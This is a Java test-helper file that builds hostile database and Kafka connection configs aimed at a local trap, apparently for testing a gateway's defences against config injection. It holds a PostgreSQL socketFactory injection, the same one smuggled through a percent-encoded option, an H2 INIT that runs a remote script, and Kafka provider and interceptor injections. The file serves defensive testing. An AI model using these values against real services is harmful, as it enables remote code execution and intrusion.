package io.sluice.gateway.testing;

import java.nio.file.Path;
import java.util.Map;

/**
 * The hostile connection configs {@code HostileConnectionRowsTest} writes into catalog-service's database, each aimed
 * at something a test watches: addresses at a {@link TrapAddress}, classes that are {@link HostileMarkers}, files in
 * the test's marker folder. {@code HostileConnectionDetectorsTest} hands the same configs to the drivers and clients
 * themselves, to show that each one really would run, connect or read what it names.
 */
public record HostileConfigs(TrapAddress trap, Path markers, Path kafkaFile) {

    /** PostgreSQL at the trap, with a {@code socketFactory} of the config's choosing (instantiated with "pg"). */
    public Map<String, String> postgresSocketFactory(String user) {
        return Map.of("username", user, "url", trapPostgres() + "?socketFactory=" + HostileMarkers.PgSocketFactory.class.getName()
                + "&socketFactoryArg=pg");
    }

    /** An H2 database file in the marker folder whose {@code INIT} fetches a script from the trap. */
    public Map<String, String> h2Init(String user) {
        return Map.of("username", user, "url", h2InitUrl());
    }

    public String h2InitUrl() {
        return "jdbc:h2:file:" + markers.resolve("h2") + ";INIT=RUNSCRIPT FROM 'http://" + trap.hostAndPort() + "/x.sql'";
    }

    /** The socket factory smuggled inside another option's value, its separators percent-encoded. */
    public Map<String, String> postgresSmuggled(String user) {
        return Map.of("username", user, "url", trapPostgres() + "?sslmode=disable%26socketFactory="
                + HostileMarkers.PgSocketFactory.class.getName() + "%26socketFactoryArg=smuggled");
    }

    /** Kafka's bootstrap address read from a file through a config provider; the file names the trap. */
    public Map<String, String> kafkaFileProvider() {
        return Map.of(
                "bootstrap.servers", "${file:" + kafkaFile + ":address}",
                "config.providers", "file",
                "config.providers.file.class", "org.apache.kafka.common.config.provider.FileConfigProvider");
    }

    /** Kafka at the trap, with a consumer interceptor of the config's choosing. */
    public Map<String, String> kafkaInterceptor() {
        return Map.of(
                "bootstrap.servers", trap.hostAndPort(),
                "interceptor.classes", HostileMarkers.KafkaInterceptor.class.getName());
    }

    private String trapPostgres() {
        return "jdbc:postgresql://" + trap.hostAndPort() + "/test";
    }
}
